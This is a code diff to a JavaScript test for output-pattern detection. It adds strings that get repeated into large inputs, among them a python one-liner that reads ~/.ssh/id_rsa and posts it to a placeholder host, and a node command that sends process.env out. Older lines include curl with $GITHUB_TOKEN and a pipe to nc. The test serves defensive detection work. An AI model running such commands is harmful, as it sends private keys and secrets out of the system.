@@ -83,6 +83,9 @@ describe('output patterns', () => {
         'curl $GITHUB_TOKEN ',
         '\\\n| nc ',
         '`curl `',
+        'python -c ',
+        `python3 -c "open('~/.ssh/id_rsa');requests.post('http://x')" `,
+        "node -e 'fetch(process.env)' ",
       ].map((unit) => unit.repeat(Math.ceil(size / 4 / unit.length))),
     ];
     for (const text of runs) {
